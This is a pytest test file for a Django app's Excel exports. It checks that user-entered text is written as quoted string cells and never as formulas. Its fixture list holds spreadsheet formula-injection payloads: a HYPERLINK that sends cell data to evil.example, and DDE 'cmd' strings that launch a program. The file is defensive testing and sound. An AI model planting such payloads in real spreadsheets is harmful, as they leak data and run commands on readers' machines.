"""Exports carry text, never formulas (issue 10): a manager who names a directive, a task or an
organization "=HYPERLINK(…)" must not have it run in every reader's spreadsheet.

Each .xlsx export is downloaded and read back: no cell is a formula (no <f> element in any
sheet), the hostile texts are there as written, as string cells marked "quote prefix".
"""

from __future__ import annotations

import io
import zipfile
from datetime import date

import openpyxl
import pytest
from django.urls import reverse

from tests.factories import DirectiveFactory, OrganizationFactory, TaskFactory, UserFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile(client):
    org = OrganizationFactory(name="=1+1 Sở độc hại")
    for n, text in enumerate(HOSTILE):
        directive = DirectiveFactory(number=f"=X{n}", title=text, issued_on=date(2021, 1, 4))
        TaskFactory(directive=directive, lead=org, path=f"={n}", text=text, deadline=date(2021, 3, 1))
    client.force_login(UserFactory(is_superuser=True, is_staff=True))
    return client


def _cells(content: bytes):
    wb = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def _sheets_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


@pytest.mark.parametrize(
    "url, query",
    [
        ("directives:task_list_xlsx", {}),
        ("directives:task_list_xlsx", {"standing": "overdue", "cutoff": "2021-12-31"}),
        ("directives:dashboard_xlsx", {"cutoff": "2021-12-31"}),
    ],
)
def test_user_text_is_written_as_text_never_as_a_formula(hostile, url, query):
    response = hostile.get(reverse(url), query)
    assert response.status_code == 200
    content = response.content
    assert "<f>" not in _sheets_xml(content) and "<f " not in _sheets_xml(content)
    cells = _cells(content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    written = {c.value for c in cells if isinstance(c.value, str)}
    for text in HOSTILE[:4]:
        assert any(text in value for value in written), text
    dangerous = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@\t\r"]
    assert dangerous and all(c.quotePrefix and c.data_type == "s" for c in dangerous)
    assert "=1+1 Sở độc hại" in written
